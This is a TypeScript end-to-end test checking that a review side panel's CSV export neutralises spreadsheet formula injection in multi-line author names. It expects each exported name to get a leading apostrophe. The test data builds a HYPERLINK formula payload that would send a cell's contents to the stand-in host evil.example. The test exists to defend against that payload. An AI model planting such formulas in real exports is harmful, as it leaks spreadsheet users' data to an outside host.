import Papa from 'papaparse';
import { createApiClient } from '../../lib/api';
import { expect, test } from './fixtures';
import { EmulatorAdmin } from './pages/emulator-admin';
import { SidePanelInboxPage } from './pages/side-panel-inbox-page';

// The side panel's CSV export as a person downloads it: author names that a spreadsheet would run
// as formulas, spread over two lines (which papaparse's own escaping let through), arrive with a
// leading apostrophe, so the spreadsheet shows them as text.

const LEADS = ['=', '+', '-', '@', '\t', '\r'];
const MARKER = 'zqxformulacheck';

test('formula-looking multi-line author names are exported as text', async ({
  context,
  openPage,
  emulator,
}) => {
  const admin = new EmulatorAdmin(emulator);
  const hostile = new Map<string, string>();
  for (const lead of LEADS) {
    const authorName = `${lead}HYPERLINK("https://evil.example/?d="&A1,"Click")\n${MARKER}`;
    const review = await admin.addReview({ authorName, content: `Left by ${MARKER}`, rating: 1 });
    hostile.set(String(review.id), authorName);
  }
  const api = createApiClient({ baseUrl: emulator.baseUrl, credential: { apiKey: emulator.apiKey } });
  const { count: all } = await api.reviews.list({ limit: 1 });
  const inbox = await SidePanelInboxPage.connectAndOpen({ context, openPage, emulator });
  await inbox.waitForReviews(all);
  await inbox.filters().getByRole('searchbox', { name: 'Search reviews' }).fill(MARKER);
  await inbox.expectTotal(LEADS.length);

  const [header, ...rows] = Papa.parse<string[]>((await inbox.exportCsv()).replace(/^\uFEFF/, ''), {
    skipEmptyLines: true,
  }).data;
  const author = header.indexOf('author');
  expect(rows).toHaveLength(LEADS.length);
  for (const row of rows) expect(row[author]).toBe(`'${hostile.get(row[0])}`);
});
